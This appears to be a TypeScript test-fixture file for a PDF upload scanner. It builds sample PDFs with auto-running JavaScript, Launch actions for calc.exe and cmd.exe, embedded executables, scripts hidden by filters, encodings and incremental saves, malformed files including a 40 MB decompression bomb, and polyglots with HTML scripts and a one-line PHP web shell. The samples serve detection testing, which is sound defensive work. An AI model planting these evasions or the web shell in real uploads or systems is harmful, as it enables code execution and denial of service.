import { deflateSync } from 'node:zlib';
import {
  deflated,
  objectStream,
  packedPdf,
  pdfWith,
  resume,
  stream,
  updated,
} from '#tests/uploads/pdf/builder';
import { toAscii85, toHex, toLzw, toPng, toRunLength, toTiff } from '#tests/uploads/pdf/encoders';

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const elsewhere = '<< /S /URI /URI (https://a.example/) >>';
const opening = '/OpenAction 9 0 R';
const opens = (object: string) => pdfWith(resume(opening, '', { 9: object }));
const annotated = (annotation: string, more = {}) =>
  pdfWith(
    resume('', '/Annots [8 0 R]', {
      8: `<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>`,
      ...more,
    }),
  );
const field = (entries: string) =>
  pdfWith(
    resume('/AcroForm << /Fields [8 0 R] >>', '/Annots [8 0 R]', {
      8: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 9 9] ${entries} >>`,
    }),
  );

/** Each acts by itself when it is opened, or on more than a place or a page when it is pressed. */
export const actions: Readonly<Record<string, Buffer>> = {
  'runs a script when it is opened': pdfWith(resume(`/OpenAction ${script}`)),
  'runs one by an object of its own': opens(script),
  'runs one that stands in a stream': opens('<< /S /JavaScript /JS 10 0 R >>'),
  'has a script among its names': pdfWith(
    resume('/Names << /JavaScript << /Names [(a) 9 0 R] >> >>', '', { 9: script }),
  ),
  'has a branch of names with scripts': pdfWith(
    resume('/Names << /JavaScript 9 0 R >>', '', {
      9: '<< /Kids [10 0 R] >>',
      10: `<< /Limits [(a) (a)] /Names [(a) ${script}] >>`,
    }),
  ),
  'runs a script when it is closed': pdfWith(resume(`/AA << /WC ${script} >>`)),
  'opens a page elsewhere when it is printed': pdfWith(resume(`/AA << /DP ${elsewhere} >>`)),
  'opens a page elsewhere when a page is shown': pdfWith(resume('', `/AA << /O ${elsewhere} >>`)),
  'does so by objects of their own': pdfWith(
    resume('', '/AA 9 0 R', { 9: '<< /O 10 0 R >>', 10: elsewhere }),
  ),
  'goes to a place when a page is shown': pdfWith(
    resume('', '/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>'),
  ),
  'runs a script when a pointer crosses it': annotated(`/Subtype /Link /AA << /E ${script} >>`),
  'runs a script when a field is left': field(`/AA << /Bl ${script} >>`),
  'formats a field by a script': field(
    '/AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2\\)) >> >>',
  ),
  'runs a script when a button is pressed': annotated(`/Subtype /Widget /FT /Btn /A ${script}`),
  'starts a program': opens('<< /S /Launch /F (calc.exe) >>'),
  'starts a program of Windows': opens('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
  'starts a program by a link': annotated('/Subtype /Link /A << /S /Launch /F (a.exe) >>'),
  'opens a page elsewhere by itself': pdfWith(resume(`/OpenAction ${elsewhere}`)),
  'does so by an object': opens(elsewhere),
  'does so by a chain': opens(`<< /S /GoTo /D [3 0 R /Fit] /Next ${elsewhere} >>`),
  'does so by a chain of chains': pdfWith(
    resume(opening, '', {
      9: '<< /S /GoTo /D [3 0 R /Fit] /Next 10 0 R >>',
      10: '[11 0 R]',
      11: `<< /S /GoTo /D [3 0 R /Fit] /Next ${elsewhere} >>`,
    }),
  ),
  'prints itself': opens('<< /S /Named /N /Print >>'),
  'goes on from a link': annotated(
    `/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>`,
  ),
  'sends a form': annotated(
    '/Subtype /Widget /FT /Btn /A << /S /SubmitForm /F (https://a.example/) >>',
  ),
  'sends a form by itself': opens('<< /S /SubmitForm /F << /FS /URL /F (https://a.example/) >> >>'),
  'fetches a form': opens('<< /S /ImportData /F (a.fdf) >>'),
  'opens a file of another computer': opens(
    '<< /S /GoToR /F (\\\\\\\\host\\\\share) /D [0 /Fit] >>',
  ),
  'opens one by a link': annotated(
    '/Subtype /Link /A << /S /GoToR /F << /Type /Filespec /UF (//host/a.pdf) >> /D [0 /Fit] >>',
  ),
  'opens a file that it carries': opens('<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>'),
  'hides what is shown': annotated('/Subtype /Widget /FT /Btn /A << /S /Hide /T (a) >>'),
  'empties a form': opens('<< /S /ResetForm >>'),
  'plays a film': annotated('/Subtype /Screen /A << /S /Rendition /OP 0 >>'),
  'has a film': annotated('/Subtype /Movie /Movie << /F (a.avi) >>'),
  'has a sound': annotated('/Subtype /Sound /Sound 9 0 R', {
    9: stream('/Type /Sound /R 8000', 'a'),
  }),
  'has a rich annotation': annotated('/Subtype /RichMedia /RichMediaContent << >>'),
  'has a body in three dimensions': annotated('/Subtype /3D /3DD 9 0 R', {
    9: stream('/Type /3D /Subtype /U3D', 'a'),
  }),
  'is a form of its own kind': pdfWith(
    resume('/AcroForm << /Fields [] /XFA 9 0 R >>', '', { 9: deflated('', '<xdp/>') }),
  ),
  'is one in parts': pdfWith(
    resume('/AcroForm << /Fields [] /XFA [(template) 9 0 R] >>', '', { 9: deflated('', '<xdp/>') }),
  ),
  'carries a file': pdfWith(
    resume('/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>', '', {
      9: '<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>',
      10: deflated('/Type /EmbeddedFile', 'MZ'),
    }),
  ),
  'carries one on a page': annotated(
    '/Subtype /FileAttachment /FS << /F (a.txt) /EF << /F 9 0 R >> >>',
    { 9: deflated('/Type /EmbeddedFile', 'a') },
  ),
  'carries one that belongs to it': pdfWith(
    resume('/AF [9 0 R]', '', {
      9: '<< /Type /Filespec /UF (a.xml) /EF << /UF 10 0 R >> >>',
      10: deflated('', 'a'),
    }),
  ),
  'is a case of files': pdfWith(resume('/Collection << /View /D >>')),
  'draws from another file': pdfWith(resume('', '', { 4: stream('/F (\\\\\\\\host\\\\a)', '') })),
  'shows a page of another file': pdfWith(
    resume('', '', {
      9: stream(
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (//host/a.pdf) /Page 0 >>',
        '',
      ),
    }),
  ),
  'has a link that is a script': annotated(
    '/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>',
  ),
  'has a link to a program': annotated(
    '/Subtype /Link /A << /S /URI /URI (file:///C:/Windows/calc.exe) >>',
  ),
  'has a link to a share': annotated(
    '/Subtype /Link /A << /S /URI /URI (\\\\\\\\host\\\\share) >>',
  ),
  'takes its links for scripts': pdfWith(resume('/URI << /Base (javascript:) >>')),
};

const packed = (dict: string, pack: (content: Buffer) => Buffer, more = {}) =>
  packedPdf(resume(opening, '', { 9: script, ...more }), { packed: [9], dict, pack });
const columns = 8;
const predicted = '/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 8 >>';
const tiff = (data: Buffer) => deflateSync(toTiff(data));
const twice = (data: Buffer) => toHex(deflateSync(data));

/** Each hides a script from who does not read as a reader does. */
export const hidden: Readonly<Record<string, Buffer>> = {
  'in a compressed object': packed('/Filter /FlateDecode', deflateSync),
  'behind a filter in a list': packed('/Filter [/FlateDecode]', deflateSync),
  'behind a filter that stands elsewhere': packed('/Filter 20 0 R', deflateSync, {
    20: '/FlateDecode',
  }),
  'behind a list that stands elsewhere': packed('/Filter 20 0 R', deflateSync, {
    20: '[21 0 R]',
    21: '/FlateDecode',
  }),
  'behind a filter by its short name': packed('/Filter /Fl', deflateSync),
  'behind two filters': packed('/Filter [/ASCIIHexDecode /FlateDecode]', twice),
  'behind hexadecimal digits': packed('/Filter /ASCIIHexDecode', toHex),
  'behind base 85': packed('/Filter /ASCII85Decode', toAscii85),
  'behind LZW': packed('/Filter /LZWDecode', toLzw),
  'behind lengths of runs': packed('/Filter /RunLengthDecode', toRunLength),
  'behind a predictor of PNG': packed(predicted, (data) => deflateSync(toPng(data, columns))),
  'behind parameters that stand elsewhere': packed(
    '/Filter /FlateDecode /DecodeParms 20 0 R',
    (data) => deflateSync(toPng(data, columns)),
    { 20: '<< /Predictor 21 0 R /Columns 8 >>', 21: '12' },
  ),
  'behind a predictor of TIFF': packed(
    '/Filter /FlateDecode /DecodeParms [<< /Predictor 2 /Columns 4096 >>]',
    tiff,
  ),
  'in an object stream without a filter': packed('', (data) => data),
  'in an object stream of another type': pdfWith(
    resume(opening, '', { 50: objectStream([[9, script]]).replace('/ObjStm', '/Other') }),
  ),
  'in an object that nothing refers to': pdfWith(resume('', '', { 30: script })),
  'in what an older save held': updated(opens(script), { 1: resume()[1] ?? '', 9: 'null' }),
  'in what a newer save holds': updated(pdfWith(resume()), {
    1: resume(opening)[1] ?? '',
    9: script,
  }),
  'in a stream of a newer save': updated(pdfWith(resume()), {
    1: resume(opening)[1] ?? '',
    50: objectStream([[9, script]]),
  }),
  'in an object that is called free': Buffer.from(
    opens(script)
      .toString('latin1')
      .replace(/\d{10} 00000 n (\n9 1)?/g, '0000000000 00001 f '),
    'latin1',
  ),
  'where the table points nowhere': Buffer.from(
    opens(script)
      .toString('latin1')
      .replace(/startxref\n\d+/, 'startxref\n1'),
    'latin1',
  ),
  'without a table': Buffer.from(
    opens(script)
      .toString('latin1')
      .replace(/xref[\s\S]*/, ''),
    'latin1',
  ),
  'in names of numbers': opens('<< /#53 /J#61vaScript /#4a#53 (x) >>'),
  'in a name that stands elsewhere': pdfWith(
    resume(opening, '', { 9: '<< /S 10 0 R /Q (x) >>', 10: '/JavaScript' }),
  ),
  'in a kind written as a string': opens('<< /S (Launch) /Q (x) >>'),
  'in one written in hexadecimal digits': opens('<< /S <4c61756e6368> /Q (x) >>'),
  'in one written in UTF-16': opens('<< /S <FEFF004c00610075006e00630068> /Q (x) >>'),
  'behind the end of a string': pdfWith(resume(`/X (\\\\) /OpenAction ${script} /Y (x)`)),
  'in what looks like a string': pdfWith(resume(`/X (9 0 obj ${script} endobj) ${opening}`)),
  'in what looks like a stream': pdfWith(
    resume(opening, '', { 7: stream('', `9 0 obj\n${script}\nendobj`) }),
  ),
  'behind zeros for spaces': Buffer.from(
    opens(script).toString('latin1').replace('9 0 obj', '9\x000\x00obj'),
    'latin1',
  ),
  'after junk before its header': pdfWith(resume(`/OpenAction ${script}`), {
    header: 'junk\njunk\n%PDF-1.4\n',
  }),
  'behind the end of the file': Buffer.concat([
    pdfWith(resume(opening)),
    Buffer.from(`9 0 obj\n${script}\nendobj\n`),
  ]),
  'in a second file behind the first': Buffer.concat([pdfWith(resume()), opens(script)]),
  'behind an encryption that is none': pdfWith(resume(opening, '', { 9: script }), {
    trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (a) /U (a) /P -4 >> /ID [<00> <00>]',
  }),
};

const breaks = (from: string | RegExp, to: string) =>
  Buffer.from(pdfWith(resume()).toString('latin1').replace(from, to), 'latin1');

/** Each is read in one way by one program and in another by the next, or by none. */
export const unreadable: Readonly<Record<string, Buffer>> = {
  'an object stream packed in a way that nobody knows': packed('/Filter /Secret', deflateSync),
  'an object stream packed as a picture': packed('/Filter /DCTDecode', deflateSync),
  'an object stream that is broken': packed('/Filter /FlateDecode', (data) =>
    deflateSync(data).subarray(0, 12),
  ),
  'an object stream that unpacks to 40 MB': packed('/Filter /FlateDecode', (data) =>
    deflateSync(Buffer.concat([data, Buffer.alloc(40_000_000, ' ')])),
  ),
  'an object stream of another length than it tells': Buffer.from(
    packed('', (data) => data)
      .toString('latin1')
      .replace(/(ObjStm[^>]*Length )\d+/, '$110'),
    'latin1',
  ),
  'an object stream with more than its list tells': Buffer.from(
    packed('', (data) => Buffer.concat([data, Buffer.from(script)]))
      .toString('latin1')
      .replace('/N 1', '/N 1'),
    'latin1',
  ),
  'an object stream in an object stream': packedPdf(
    resume('', '', { 9: objectStream([[10, script]]) }),
    { packed: [9] },
  ),
  'a key that stands twice': pdfWith(
    resume('/OpenAction [3 0 R /Fit] /OpenAction << /S /GoTo /D [3 0 R /Fit] >>'),
  ),
  'a name with a zero in it': pdfWith(resume('', '', { 9: '<< /S /Launch#00 >>' })),
  'a comment within the number of an object': Buffer.from(
    opens(script).toString('latin1').replace('9 0 obj', '9 %\n0 %x\nobj'),
    'latin1',
  ),
  'an object without an end': breaks('endobj\n2 0', '\n2 0'),
  'an object that is no object': pdfWith(resume('', '', { 9: '<< /A @ >>' })),
  'brackets without an end': pdfWith(resume('', '', { 9: '['.repeat(200_000) })),
  'a text that breaks off': pdfWith(resume('', '', { 9: `($'a'.repeat(1000)` })),
  'references in a ring': pdfWith(
    resume('', '', { 9: '<< /A 10 0 R >>', 10: '11 0 R', 11: '10 0 R' }),
  ),
  'no page': pdfWith({
    1: '<< /Type /Catalog /Pages 2 0 R >>',
    2: '<< /Type /Pages /Kids [] /Count 0 >>',
  }),
  'no catalogue': pdfWith({ 3: '<< /Type /Page >>' }),
  'half of it': pdfWith(resume()).subarray(0, 200),
};

const plain = pdfWith(resume());
const behind = (tail: string) => Buffer.concat([plain, Buffer.from(tail, 'latin1')]);
const before = (head: string) => Buffer.concat([Buffer.from(head, 'latin1'), plain]);

/** Each is a file of another kind too. */
export const polyglots: Readonly<Record<string, Buffer>> = {
  'a page of the web before it': before('<html><script>alert(1)</script>\n'),
  'a page of the web behind text': before('Resume\n<script>alert(1)</script>\n'),
  'a page of the web in its first line': breaks(
    '%PDF-1.4\n',
    '%PDF-1.4 <script>alert(1)</script>\n',
  ),
  'a page of the web behind it': behind('<html><body onload=alert(1)>'),
  'a page of the web in a comment': pdfWith(resume(), {
    trailer: '',
    tail: '%<script>alert(1)</script>\n',
  }),
  'a zip behind it': behind('PK\x03\x04a.txt\nPK\x05\x06\0\0'),
  'a zip in a stream': pdfWith(resume('', '', { 9: stream('', `$textPK\x03\x04aPK\x05\x06a`) })),
  'a document that Word opens behind it': behind(
    'MIME-Version: 1.0\nContent-Type: multipart/related\n',
  ),
  'a program of PHP behind it': behind('<?php system($_GET[0]); ?>'),
  'a PostScript program': before('%!PS-Adobe-3.0\n'),
  'a picture (GIF)': before('GIF89a\n'),
};
